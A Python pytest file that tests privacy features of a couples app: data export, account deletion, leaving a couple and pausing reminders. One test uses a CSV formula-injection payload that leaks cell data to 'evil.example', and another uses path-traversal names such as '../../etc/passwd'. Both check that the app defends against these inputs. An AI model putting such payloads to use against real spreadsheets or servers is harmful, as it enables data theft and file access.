"""Export, account deletion, leaving and the quiet pause, through the real services on
both databases."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from sqlalchemy import func, select

from couples import accounts
from couples import service as couples
from couples.clients import device_key
from couples.models import (
    AuthSession,
    Couple,
    FailedSignIn,
    Invitation,
    KnownDevice,
    Membership,
    OneTimeToken,
    PendingRegistration,
    User,
)
from infra.errors import InvalidInput
from infra.tokens import new_token, token_hash
from notifications.models import NotificationPreference, OutboxMessage
from notifications.outbox import enqueue
from privacy import erase, export, pause
from tests.factories import PASSWORD, make_couple, make_user


def unzip(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def count(s, model, *where) -> int:  # type: ignore[no-untyped-def]
    return s.scalar(select(func.count()).select_from(model).where(*where))


# --- export -------------------------------------------------------------------------


def test_export_holds_account_couple_and_settings_as_json_and_csv(tx, now) -> None:
    with tx() as s:
        _couple, a, _b = make_couple(s, name="Sam & Alex", now=now)
        accounts.start_session(s, a.id, now=now)
        accounts.remember_device(s, a.id, device_key("a's phone", ""), now=now)
        pause.pause_reminders(s, a.id, now=now)
    with tx() as s:
        files = unzip(export.export_zip(s, a.id, now=now))
    assert {"README.txt", "tend-export.json", "account/profile.csv"} <= set(files)
    document = json.loads(files["tend-export.json"])
    assert document["format"] == "tend-export" and document["version"] == 1
    tables = document["tables"]["account"]
    [profile] = tables["profile"]
    assert profile["email"] == "a@example.org" and profile["display_name"] == "A"
    assert profile["reminders_paused_at"] == now.isoformat()
    assert tables["couple"][0]["name"] == "Sam & Alex"
    assert [(m["name"], m["you"]) for m in tables["couple_members"]] == [("A", True), ("B", False)]
    # B joined with the invitation: the address is B's now, and left out (below).
    assert [i["email"] for i in tables["invitations_sent"]] == [""]
    assert len(tables["sign_in_sessions"]) == 1
    assert tables["known_devices"] == [
        {"first_signed_in_at": now.isoformat(), "last_signed_in_at": now.isoformat()}
    ]
    # The CSV says the same as the JSON.
    assert csv_rows(files["account/couple_members.csv"])[1]["name"] == "B"
    # Secrets stay out: no password hash, no token hash, no raw mail token.
    everything = b"".join(files.values()).decode("utf-8", "replace")
    with tx() as s:
        user = s.get(User, a.id)
        assert user.password_hash not in everything
        for token_hash in s.scalars(select(AuthSession.token_hash)):
            assert token_hash not in everything
        assert device_key("a's phone", "").removeprefix("d:") not in everything
        secrets = s.scalars(select(OutboxMessage.secret).where(OutboxMessage.secret.is_not(None)))
        for secret in secrets:
            assert secret not in everything


def test_the_inviters_export_keeps_addresses_typed_but_never_the_partners(tx, now) -> None:
    """What the inviter typed is theirs while nobody joined with it; once the partner
    joined, the address is the partner's and no file of the zip holds it."""
    with tx() as s:
        a = make_user(s, "a@example.org")
        couples.create_couple(s, a.id, name="A & B", reunited_on=None, now=now)
        first = couples.invite_partner(s, a.id, "first.try@example.org", now=now)
        couples.revoke_invitation(s, a.id, first.id, now=now)
        second = couples.invite_partner(s, a.id, "b@example.org", now=now)
        b = make_user(s, "b@example.org")
        token = new_token()
        second.token_hash = token_hash(token)
        couples.accept_invitation(s, token, b.id, now=now)
    with tx() as s:
        files = unzip(export.export_zip(s, a.id, now=now))
    assert all(b"b@example.org" not in data for data in files.values()), [
        name for name, data in files.items() if b"b@example.org" in data
    ]
    sent = json.loads(files["tend-export.json"])["tables"]["account"]["invitations_sent"]
    assert [(i["email"], bool(i["revoked_at"]), bool(i["accepted_at"])) for i in sent] == [
        ("first.try@example.org", True, False),
        ("", False, True),
    ]
    assert [r["email"] for r in csv_rows(files["account/invitations_sent.csv"])] == [
        "first.try@example.org",
        "",
    ]


def test_b_export_has_nothing_of_a_beyond_the_shared_couple(tx, now) -> None:
    with tx() as s:
        _, a, b = make_couple(s, now=now)
        accounts.start_session(s, a.id, now=now)
        pause.pause_reminders(s, a.id, now=now)
        accounts.request_password_reset(s, "a@example.org", now=now)
    with tx() as s:
        document = export.export_data(s, b.id, now=now)
    tables = document["tables"]["account"]
    assert tables["profile"][0]["email"] == "b@example.org"
    assert tables["profile"][0]["reminders_paused_at"] is None
    assert tables["invitations_sent"] == []
    assert all(m["kind"] != "password_reset" for m in tables["mails_to_me"])
    assert "a@example.org" not in json.dumps(document)


def test_registered_exporters_add_their_tables_and_csv_cells_cannot_be_formulas(
    tx, now, monkeypatch
) -> None:
    monkeypatch.setattr(export, "_EXPORTERS", dict(export._EXPORTERS))
    written = '=HYPERLINK("http://evil.example/?"&A1,"click")'

    def notes(session, user_id):  # type: ignore[no-untyped-def]
        return {"notes": [{"text": written, "when": now, "tags": ["a", "b"]}]}

    export.register_exporter("notes", notes)
    with tx() as s:
        a = make_user(s, "a@example.org")
        files = unzip(export.export_zip(s, a.id, now=now))
    assert json.loads(files["tend-export.json"])["tables"]["notes"]["notes"][0] == {
        "text": written,
        "when": now.isoformat(),
        "tags": ["a", "b"],
    }
    [row] = csv_rows(files["notes/notes.csv"])
    assert row["text"] == "'" + written
    assert row["tags"] == '["a", "b"]'


def test_exporter_and_table_names_must_be_plain(tx, monkeypatch) -> None:
    monkeypatch.setattr(export, "_EXPORTERS", dict(export._EXPORTERS))
    with pytest.raises(ValueError):
        export.register_exporter("../evil", lambda s, u: {})
    export.register_exporter("bad", lambda s, u: {"../../etc/passwd": []})
    with tx() as s:
        a = make_user(s, "a@example.org")
        with pytest.raises(ValueError):
            export.export_zip(s, a.id)


# --- leaving ------------------------------------------------------------------------


def test_the_one_who_stays_sees_only_that_the_partner_left(tx, now) -> None:
    with tx() as s:
        _couple, a, b = make_couple(s, now=now)
    with tx() as s:
        couples.leave_couple(s, b.id, now=now)
    with tx() as s:
        # The one who left renames themselves and starts elsewhere: none of it shows.
        accounts.update_profile(s, b.id, display_name="New Name", timezone="Europe/Paris")
        couples.create_couple(s, b.id, name="Elsewhere", reunited_on=None, now=now)
    with tx() as s:
        assert couples.partner_has_left(s, a.id)
        assert couples.shown_name(s, a.id, b.id) == couples.FORMER_PARTNER
        assert couples.shown_name(s, a.id, a.id) == "A"
        names = [couples.member_name(m, a.id) for m in couples.couple_of(s, a.id).members]
        assert names == ["A", couples.FORMER_PARTNER]
        document = json.dumps(export.export_data(s, a.id, now=now))
    assert "New Name" not in document and "Elsewhere" not in document


# --- deleting an account ------------------------------------------------------------


def _traces(s, user_id: int, email: str) -> dict[str, int]:  # type: ignore[no-untyped-def]
    return {
        "sessions": count(s, AuthSession, AuthSession.user_id == user_id),
        "tokens": count(s, OneTimeToken, OneTimeToken.user_id == user_id),
        "pending": count(s, PendingRegistration, PendingRegistration.email == email),
        "failed": count(s, FailedSignIn, FailedSignIn.email == email),
        "devices": count(s, KnownDevice, KnownDevice.user_id == user_id),
        "outbox": count(s, OutboxMessage, OutboxMessage.to_address == email),
        "preferences": count(s, NotificationPreference, NotificationPreference.user_id == user_id),
        "invitations": count(s, Invitation, Invitation.email == email),
        "users": count(s, User, User.email == email),
    }


def test_deleting_needs_the_password_and_then_leaves_no_trace(tx, now) -> None:
    with tx() as s:
        couple, a, b = make_couple(s, now=now)
        accounts.start_session(s, b.id, now=now)
        accounts.issue_sign_in_link(s, b.id, "/home", now=now)
        accounts.sign_in(s, "b@example.org", "wrong password!", client="x", now=now)
        accounts.sign_in(s, "b@example.org", PASSWORD, client=device_key("b's phone", ""), now=now)
        accounts.request_password_reset(s, "b@example.org", now=now)
        pause.pause_reminders(s, b.id, now=now)
        # A registration attempt for the same address, waiting for its link.
        s.add(
            PendingRegistration(
                token_hash="f" * 64,
                email="b@example.org",
                display_name="B",
                password_hash="x",
                timezone="UTC",
                created_at=now,
                expires_at=now,
            )
        )
    with tx() as s:
        before = _traces(s, b.id, "b@example.org")
    assert all(before.values()), before
    with pytest.raises(InvalidInput, match="not your current password"), tx() as s:
        erase.delete_account(s, b.id, "not it at all", now=now)
    with tx() as s:
        assert _traces(s, b.id, "b@example.org") == before

    with tx() as s:
        erase.delete_account(s, b.id, PASSWORD, now=now)
    with tx() as s:
        assert set(_traces(s, b.id, "b@example.org").values()) == {0}
        # B had a partner: the row stays as an anonymous tombstone for the shared history.
        tomb = s.get(User, b.id)
        assert tomb.display_name == couples.FORMER_PARTNER
        assert tomb.email == f"deleted-{b.id}@{erase.TOMBSTONE_DOMAIN}"
        assert erase.is_tombstone(tomb)
        assert not accounts.sign_in(s, tomb.email, PASSWORD, client="y", now=now).user
        # A keeps the space, read-only, and sees only that the partner left.
        assert couples.partner_has_left(s, a.id)
        assert couples.shown_name(s, a.id, b.id) == couples.FORMER_PARTNER
        assert couples.couple_of(s, a.id).id == couple.id
        assert "b@example.org" not in json.dumps(export.export_data(s, a.id, now=now))
    with tx() as s:
        # The address is free again: the person may come back with a new account.
        make_user(s, "b@example.org")


def test_a_person_who_never_shared_a_space_is_removed_entirely(tx, now) -> None:
    with tx() as s:
        solo = make_user(s, "solo@example.org")
        couples.create_couple(s, solo.id, name="Just me", reunited_on=None, now=now)
        couples.invite_partner(s, solo.id, "maybe@example.org", now=now)
    with tx() as s:
        erase.delete_account(s, solo.id, PASSWORD, now=now)
    with tx() as s:
        assert s.get(User, solo.id) is None
        assert count(s, Couple) == 0 and count(s, Membership) == 0 and count(s, Invitation) == 0


def test_erasers_run_first_and_a_failing_one_undoes_everything(tx, now, monkeypatch) -> None:
    monkeypatch.setattr(erase, "_ERASERS", {})
    calls: list[tuple[str, int]] = []

    def first(session, user_id, when):  # type: ignore[no-untyped-def]
        # The user row is still there: erasers run before the foundation's erasure.
        assert session.get(User, user_id).email == "b@example.org"
        assert when == now
        calls.append(("first", user_id))

    def broken(session, user_id, when):  # type: ignore[no-untyped-def]
        calls.append(("broken", user_id))
        raise RuntimeError("eraser failed")

    erase.register_eraser("first", first)
    erase.register_eraser("broken", broken)
    with tx() as s:
        _, a, b = make_couple(s, now=now)
        accounts.start_session(s, b.id, now=now)
    with pytest.raises(RuntimeError), tx() as s:
        erase.delete_account(s, b.id, PASSWORD, now=now)
    assert calls == [("first", b.id), ("broken", b.id)]
    with tx() as s:
        assert s.get(User, b.id).email == "b@example.org"
        assert count(s, AuthSession, AuthSession.user_id == b.id) == 1
        assert not couples.partner_has_left(s, a.id)


def test_deleting_sends_no_mail_to_anyone(tx, now) -> None:
    with tx() as s:
        _, _a, b = make_couple(s, now=now)
        before = count(s, OutboxMessage)
    with tx() as s:
        erase.delete_account(s, b.id, PASSWORD, now=now)
    with tx() as s:
        # B's own mails are gone; nothing new was written for A.
        assert count(s, OutboxMessage) <= before
        assert count(s, OutboxMessage, OutboxMessage.created_at > now) == 0


# --- quiet pause ---------------------------------------------------------------------


def test_pause_is_quiet_idempotent_and_resumable(tx, now) -> None:
    with tx() as s:
        _, a, b = make_couple(s, now=now)
        mails = count(s, OutboxMessage)
    with tx() as s:
        pause.pause_reminders(s, a.id, now=now)
        pause.pause_reminders(s, a.id, now=now.replace(hour=23))
    with tx() as s:
        assert pause.is_paused(s, a.id) and not pause.is_paused(s, b.id)
        assert pause.paused_since(s, a.id) == now
        assert pause.paused_user_ids(s, [a.id, b.id]) == {a.id}
        assert pause.paused_user_ids(s) == {a.id}
        # Nothing was sent or queued for anyone.
        assert count(s, OutboxMessage) == mails
    with tx() as s:
        pause.resume_reminders(s, a.id)
        pause.resume_reminders(s, a.id)
    with tx() as s:
        assert not pause.is_paused(s, a.id) and pause.paused_user_ids(s) == set()


def test_outbox_rows_for_a_deleted_person_are_gone_even_if_only_addressed(tx, now) -> None:
    with tx() as s:
        b = make_user(s, "b@example.org")
        enqueue(s, kind="test", to_address="b@example.org", dedupe_key="t-addr")
    with tx() as s:
        erase.delete_account(s, b.id, PASSWORD, now=now)
    with tx() as s:
        assert count(s, OutboxMessage) == 0
